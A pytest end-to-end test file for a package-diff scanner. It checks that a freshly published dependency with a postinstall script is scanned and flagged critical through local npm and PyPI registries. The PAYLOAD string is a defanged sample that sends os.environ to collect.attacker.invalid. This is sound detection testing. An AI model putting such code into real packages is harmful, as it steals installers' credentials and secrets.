"""End to end: a release that adds a dependency gets that dependency scanned (event-stream).

The real CLI against a real Verdaccio (and a real pypiserver): a benign parent adds a freshly
published dependency whose `postinstall` would post the environment to a host under
`.invalid` (DEFANGED: nothing here is ever installed or run). The report must carry the
dependency's findings with `via` and be critical; a parent adding an old, benign dependency
must stay quiet.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.deps.mock_registries import sdist
from tests.e2e.cli import RunWatcher
from tests.support.packages import STRUTIL_SETUP_JS, NpmRelease
from tests.support.registries import (
    PypiServer,
    RegistryStartError,
    Verdaccio,
    start_pypiserver,
)

pytestmark = pytest.mark.e2e

PARENT = "@watcher-e2e/dep-parent"
# Another scope than the parent's: a new package in the parent's own scope is a sibling (a platform
# binary, say), whose newness is no news; a stranger's brand-new package is.
EVIL = "@watcher-e2e-other/evil-dep"
QUIET_PARENT = "@watcher-e2e/quiet-parent"
OLD_DEP = "@watcher-e2e/old-dep"
#: Verdaccio stamps every publish with the current time; this is written over it for OLD_DEP.
LONG_AGO = "2019-05-01T00:00:00.000Z"

INDEX_JS = "module.exports = (s) => String(s).trim();\n"


def _parent(name: str, version: str, dependencies: dict[str, str] | None = None) -> NpmRelease:
    manifest: dict[str, object] = {"name": name, "version": version, "main": "index.js"}
    if dependencies:
        manifest["dependencies"] = dependencies
    return NpmRelease(manifest, {"index.js": INDEX_JS})


def _evil() -> NpmRelease:
    return NpmRelease(
        {"name": EVIL, "version": "1.0.0", "scripts": {"postinstall": "node setup.js"}},
        {"setup.js": STRUTIL_SETUP_JS},
    )


def _backdate(registry: Verdaccio, name: str) -> None:
    """Make `name` look years old: rewrite the publish times in Verdaccio's own storage."""
    stored = registry.workdir / "storage" / name / "package.json"
    document = json.loads(stored.read_text())
    document["time"] = dict.fromkeys(document["time"], LONG_AGO)
    stored.write_text(json.dumps(document))
    assert registry.packument(name)["time"]["created"] == LONG_AGO, "Verdaccio cached the file"


@pytest.fixture(scope="module")
def dep_registry(npm_registry: Verdaccio) -> Verdaccio:
    """The session Verdaccio with this module's packages, dependencies published first."""
    token = npm_registry.create_user("ci")
    releases = [
        _parent(PARENT, "1.0.0"),
        _evil(),
        _parent(PARENT, "1.0.1", {EVIL: "^1.0.0"}),
        _parent(QUIET_PARENT, "1.0.0"),
        NpmRelease({"name": OLD_DEP, "version": "2.1.3"}, {"index.js": INDEX_JS}),
    ]
    for release in releases:
        npm_registry.publish(release.manifest, release.tarball(), token=token)
    _backdate(npm_registry, OLD_DEP)
    quiet = _parent(QUIET_PARENT, "1.0.1", {OLD_DEP: "^2.1.0"})
    npm_registry.publish(quiet.manifest, quiet.tarball(), token=token)
    return npm_registry


def test_a_fresh_malicious_dependency_is_scanned_and_makes_the_release_critical(
    run_watcher: RunWatcher, dep_registry: Verdaccio
) -> None:
    run = run_watcher(
        "diff", PARENT, "1.0.0", "1.0.1", "--registry", dep_registry.url, "--format", "json"
    )
    assert run.returncode == 1, run.describe()
    report = run.json()
    assert report["severity"] == "critical", run.describe()
    from_dep = [f for f in report["findings"] if f.get("via")]
    assert {f["via"] for f in from_dep} == {f"{EVIL}@1.0.0"}, run.describe()
    by_rule = {f["rule"]: f for f in from_dep}
    assert {"npm.install-script", "code.network", "code.env-access"} <= set(by_rule), run.describe()
    network = by_rule["code.network"]
    assert network["path"] == "setup.js"
    assert "https.request" in network["evidence"]
    assert network["message"].startswith(f"via dependency {EVIL}@1.0.0: ")
    # Published seconds before the parent: a brand-new package.
    fresh = [f for f in report["findings"] if f["rule"] == "manifest.dependency-fresh"]
    assert [f["severity"] for f in fresh] == ["high"], run.describe()
    assert report["reasons"], run.describe()


def test_the_text_report_says_which_dependency(
    run_watcher: RunWatcher, dep_registry: Verdaccio
) -> None:
    run = run_watcher("diff", PARENT, "1.0.0", "1.0.1", "--registry", dep_registry.url)
    assert run.returncode == 1, run.describe()
    assert f"{EVIL}@1.0.0: setup.js" in run.stdout, run.describe()
    assert "collect.attacker.invalid" in run.stdout, run.describe()


def test_a_local_diff_resolves_dependencies_against_the_registry_it_is_given(
    run_watcher: RunWatcher, dep_registry: Verdaccio, tmp_path: Path
) -> None:
    """`--old/--new` files: with `--registry`, new dependencies are resolved and scanned;
    without it, they are reported as not scanned (an offline diff makes no request)."""
    old, new = _parent(PARENT, "1.0.0"), _parent(PARENT, "1.0.1", {EVIL: "^1.0.0"})
    (tmp_path / "old.tgz").write_bytes(old.tarball())
    (tmp_path / "new.tgz").write_bytes(new.tarball())
    files = ["diff", "--old", "old.tgz", "--new", "new.tgz", "--format", "json"]
    online = run_watcher(*files, "--registry", dep_registry.url, cwd=tmp_path)
    assert online.returncode == 1, online.describe()
    assert {f["via"] for f in online.json()["findings"] if f.get("via")} == {f"{EVIL}@1.0.0"}
    offline = run_watcher(*files, "--fail-on", "none", cwd=tmp_path)
    unscanned = [
        f for f in offline.json()["findings"] if f["rule"] == "manifest.dependency-unscanned"
    ]
    assert unscanned and "no registry" in unscanned[0]["message"], offline.describe()


def test_an_old_benign_dependency_stays_quiet(
    run_watcher: RunWatcher, dep_registry: Verdaccio
) -> None:
    run = run_watcher(
        "diff", QUIET_PARENT, "1.0.0", "1.0.1", "--registry", dep_registry.url, "--format", "json"
    )
    assert run.returncode == 0, run.describe()
    report = run.json()
    assert report["severity"] in ("none", "low"), run.describe()
    assert not [f for f in report["findings"] if f.get("via")], run.describe()
    assert {f["rule"] for f in report["findings"]} == {"manifest.dependency-added"}, run.describe()


# --------------------------------------------------------------------------- PyPI


PAYLOAD = (
    "import os, urllib.request\n"
    "body = repr(dict(os.environ)).encode()\n"
    "urllib.request.urlopen('https://collect.attacker.invalid/', data=body)\n"
)


@pytest.fixture(scope="module")
def dep_index(tmp_path_factory: pytest.TempPathFactory) -> Iterator[PypiServer]:
    """A pypiserver of its own (Simple API only: no upload times, so no freshness finding)."""
    packages_dir: Path = tmp_path_factory.mktemp("pypi-deps") / "packages"
    packages_dir.mkdir()
    files = {
        "dep_parent-1.0.0.tar.gz": sdist(
            "dep-parent", "1.0.0", {"dep_parent/__init__.py": "X = 1\n"}
        ),
        "dep_parent-1.0.1.tar.gz": sdist(
            "dep-parent",
            "1.0.1",
            {"dep_parent/__init__.py": "X = 1\n"},
            requires=("dep-helper>=1.0",),
        ),
        "dep_helper-1.0.0.tar.gz": sdist(
            "dep-helper", "1.0.0", {"dep_helper/__init__.py": PAYLOAD}
        ),
    }
    for filename, data in files.items():
        (packages_dir / filename).write_bytes(data)
    try:
        with start_pypiserver(packages_dir) as server:
            yield server
    except RegistryStartError as error:
        pytest.fail(f"cannot run the PyPI end-to-end registry: {error}", pytrace=False)


def test_pypi_new_requirement_is_scanned_through_the_simple_api(
    run_watcher: RunWatcher, dep_index: PypiServer
) -> None:
    run = run_watcher(
        "diff",
        "dep-parent",
        "1.0.0",
        "1.0.1",
        "--ecosystem",
        "pypi",
        "--registry",
        dep_index.simple_url,
        "--format",
        "json",
    )
    report = run.json()
    from_dep = [f for f in report["findings"] if f.get("via")]
    assert {f["via"] for f in from_dep} == {"dep-helper@1.0.0"}, run.describe()
    assert "code.network" in {f["rule"] for f in from_dep}, run.describe()
    assert not [f for f in report["findings"] if f["rule"] == "manifest.dependency-fresh"]
